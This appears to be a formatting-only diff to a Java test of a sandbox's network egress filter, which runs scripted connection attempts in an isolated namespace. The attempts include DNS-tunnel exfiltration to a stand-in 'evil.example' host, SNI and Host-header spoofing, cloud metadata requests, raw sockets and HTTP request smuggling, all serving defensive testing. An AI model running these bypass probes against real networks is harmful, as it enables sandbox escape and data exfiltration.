@@ -39,60 +39,59 @@ class EgressTest {
     /** What each attempt in {@link #ATTEMPTS} came to, and what the host saw. */
     private Map<String, String> results = Map.of();
 
-    private static final String ATTEMPTS =
-            """
-            direct="curl -sS -k -m 5 --noproxy *"
-            try() { name=$1; shift; echo "$name=$("$@" 2>&1 | tr -d '\\r' | tr '\\n' ' ')"; }
-            status() { dig +time=2 +tries=1 "$@" | sed -n 's/.*status: \\([A-Z]*\\),.*/\\1/p'; }
-            set -f
+    private static final String ATTEMPTS = """
+        direct="curl -sS -k -m 5 --noproxy *"
+        try() { name=$1; shift; echo "$name=$("$@" 2>&1 | tr -d '\\r' | tr '\\n' ' ')"; }
+        status() { dig +time=2 +tries=1 "$@" | sed -n 's/.*status: \\([A-Z]*\\),.*/\\1/p'; }
+        set -f
 
-            try http $direct http://repo.example.org/
-            try https $direct https://repo.example.org/
-            try wildcard $direct http://a.b.example.net/
-            try keepalive $direct http://repo.example.org/1 http://repo.example.org/2
-            try proxied curl -sS -m 5 http://repo.example.org/
-            try connect curl -sS -k -m 5 https://repo.example.org/
-            try two-names curl -sS -m 5 http://repo.example.org/ http://a.b.example.net/
-            try socks curl -sS -k -m 5 -x socks5h://127.0.0.1:3128 https://repo.example.org/
-            try greeting socat -T5 - TCP:repo.example.org:8080
-            try ipv6-only-name $direct http://six.example.net/
-            try txt status repo.example.org TXT
-            try aaaa status repo.example.org AAAA
+        try http $direct http://repo.example.org/
+        try https $direct https://repo.example.org/
+        try wildcard $direct http://a.b.example.net/
+        try keepalive $direct http://repo.example.org/1 http://repo.example.org/2
+        try proxied curl -sS -m 5 http://repo.example.org/
+        try connect curl -sS -k -m 5 https://repo.example.org/
+        try two-names curl -sS -m 5 http://repo.example.org/ http://a.b.example.net/
+        try socks curl -sS -k -m 5 -x socks5h://127.0.0.1:3128 https://repo.example.org/
+        try greeting socat -T5 - TCP:repo.example.org:8080
+        try ipv6-only-name $direct http://six.example.net/
+        try txt status repo.example.org TXT
+        try aaaa status repo.example.org AAAA
 
-            try direct-ip $direct http://198.51.100.10/
-            try direct-ip-socket socat -T3 - TCP:198.51.100.10:8080
-            try wildcard-itself $direct http://example.net/
-            try other-port $direct http://repo.example.org:8081/
-            try other-dns status @198.51.100.10 repo.example.org
-            try tunnel status c2VjcmV0.evil.example TXT
-            try tunnel-tcp status +tcp c2VjcmV0.evil.example
-            try other-sni $direct --connect-to other.example.org:443:repo.example.org:443 https://other.example.org/evil
-            try no-sni $direct https://127.1.0.1/evil
-            try other-host $direct -H 'Host: other.example.org' http://repo.example.org/evil
-            try no-tls $direct http://repo.example.org:443/evil
-            try other-name-by-connect curl -sS -k -m 5 https://other.example.org/evil
-            try other-port-by-connect curl -sS -m 5 -p -x http://127.0.0.1:3128 http://repo.example.org:81/evil
-            try ip-by-connect curl -sS -k -m 5 https://198.51.100.10/evil
-            try ip-by-proxy curl -sS -m 5 http://198.51.100.10/evil
-            try other-sni-by-connect curl -sS -k -m 5 --connect-to other.example.org:443:repo.example.org:443 https://other.example.org/evil
-            try ip-by-socks curl -sS -k -m 5 -x socks5://127.0.0.1:3128 http://198.51.100.10/evil
-            try loopback-by-proxy curl -sS -m 5 --noproxy '' http://127.0.0.1:9999/evil
-            try loopback $direct http://127.0.0.1:9999/evil
-            try name-of-loopback $direct http://loop.example.net/evil
-            try name-of-private $direct http://private.example.net/evil
-            try name-of-metadata curl -sS -m 5 http://meta.example.net/evil
-            try name-of-mapped curl -sS -m 5 http://mapped.example.net/evil
-            try metadata $direct http://169.254.169.254/evil
-            try metadata-by-proxy curl -sS -m 5 http://169.254.169.254/evil
-            try ipv6 $direct 'http://[2001:db8::1]/evil'
-            try raw perl -e 'use Socket; socket(my $s, AF_INET, SOCK_RAW, 1) or print "refused: $!"'
-            try packet perl -e 'socket(my $s, 17, 3, 768) or print "refused: $!"'
-            try abstract socat -T3 - ABSTRACT-CONNECT:carrel-egress-test
-            try udp perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Proto=>"udp",PeerAddr=>"198.51.100.10:9") or print "refused: $!"'
-            request='GET /1 HTTP/1.1\\r\\nHost: repo.example.org\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: other.example.org\\r\\n\\r\\n'
-            two() { printf "$request" | socat -T3 - TCP:repo.example.org:80; }
-            try second-request two
-            """;
+        try direct-ip $direct http://198.51.100.10/
+        try direct-ip-socket socat -T3 - TCP:198.51.100.10:8080
+        try wildcard-itself $direct http://example.net/
+        try other-port $direct http://repo.example.org:8081/
+        try other-dns status @198.51.100.10 repo.example.org
+        try tunnel status c2VjcmV0.evil.example TXT
+        try tunnel-tcp status +tcp c2VjcmV0.evil.example
+        try other-sni $direct --connect-to other.example.org:443:repo.example.org:443 https://other.example.org/evil
+        try no-sni $direct https://127.1.0.1/evil
+        try other-host $direct -H 'Host: other.example.org' http://repo.example.org/evil
+        try no-tls $direct http://repo.example.org:443/evil
+        try other-name-by-connect curl -sS -k -m 5 https://other.example.org/evil
+        try other-port-by-connect curl -sS -m 5 -p -x http://127.0.0.1:3128 http://repo.example.org:81/evil
+        try ip-by-connect curl -sS -k -m 5 https://198.51.100.10/evil
+        try ip-by-proxy curl -sS -m 5 http://198.51.100.10/evil
+        try other-sni-by-connect curl -sS -k -m 5 --connect-to other.example.org:443:repo.example.org:443 https://other.example.org/evil
+        try ip-by-socks curl -sS -k -m 5 -x socks5://127.0.0.1:3128 http://198.51.100.10/evil
+        try loopback-by-proxy curl -sS -m 5 --noproxy '' http://127.0.0.1:9999/evil
+        try loopback $direct http://127.0.0.1:9999/evil
+        try name-of-loopback $direct http://loop.example.net/evil
+        try name-of-private $direct http://private.example.net/evil
+        try name-of-metadata curl -sS -m 5 http://meta.example.net/evil
+        try name-of-mapped curl -sS -m 5 http://mapped.example.net/evil
+        try metadata $direct http://169.254.169.254/evil
+        try metadata-by-proxy curl -sS -m 5 http://169.254.169.254/evil
+        try ipv6 $direct 'http://[2001:db8::1]/evil'
+        try raw perl -e 'use Socket; socket(my $s, AF_INET, SOCK_RAW, 1) or print "refused: $!"'
+        try packet perl -e 'socket(my $s, 17, 3, 768) or print "refused: $!"'
+        try abstract socat -T3 - ABSTRACT-CONNECT:carrel-egress-test
+        try udp perl -MIO::Socket::INET -e 'IO::Socket::INET->new(Proto=>"udp",PeerAddr=>"198.51.100.10:9") or print "refused: $!"'
+        request='GET /1 HTTP/1.1\\r\\nHost: repo.example.org\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: other.example.org\\r\\n\\r\\n'
+        two() { printf "$request" | socat -T3 - TCP:repo.example.org:80; }
+        try second-request two
+        """;
 
     /** Plays the host. */
     static final class World {
@@ -112,7 +111,8 @@ class EgressTest {
             Set<String> resolved = new ConcurrentSkipListSet<>();
             ConcurrentLinkedQueue<EgressEvent> events = new ConcurrentLinkedQueue<>();
             TestServers servers = TestServers.start(InetAddresses.forString("198.51.100.10"));
-            Process unix = new ProcessBuilder("socat", "ABSTRACT-LISTEN:carrel-egress-test,fork", "EXEC:echo evil").start();
+            Process unix =
+                    new ProcessBuilder("socat", "ABSTRACT-LISTEN:carrel-egress-test,fork", "EXEC:echo evil").start();
             try (ServerSocket loopback = new ServerSocket(9999, 1, InetAddress.getLoopbackAddress())) {
                 Egress egress = Egress.allow("repo.example.org:80,443,8080", "*.example.net")
                         .withListener(events::add)
@@ -154,8 +154,9 @@ class EgressTest {
 
     @BeforeAll
     void attempt() throws Exception {
-        String world = "ip link set lo up && ip addr add 198.51.100.10/32 dev lo && ip addr add 2001:db8:100::10/128 dev lo nodad"
-                + " && exec \"$@\"";
+        String world =
+                "ip link set lo up && ip addr add 198.51.100.10/32 dev lo && ip addr add 2001:db8:100::10/128 dev lo"
+                        + " nodad && exec \"$@\"";
         String[] unshare = Outside.uid() == 0
                 ? new String[] {"unshare", "-n", "sh", "-c", world, "sh"}
                 : new String[] {"unshare", "-Urn", "sh", "-c", world, "sh"};
@@ -163,7 +164,9 @@ class EgressTest {
         Map<String, String> read = new LinkedHashMap<>();
         Splitter.on('\n').omitEmptyStrings().splitToStream(output).forEach(line -> {
             int equals = line.indexOf('=');
-            read.put(equals < 0 ? line : line.substring(0, equals), line.substring(equals + 1).strip());
+            read.put(
+                    equals < 0 ? line : line.substring(0, equals),
+                    line.substring(equals + 1).strip());
         });
         results = read;
     }
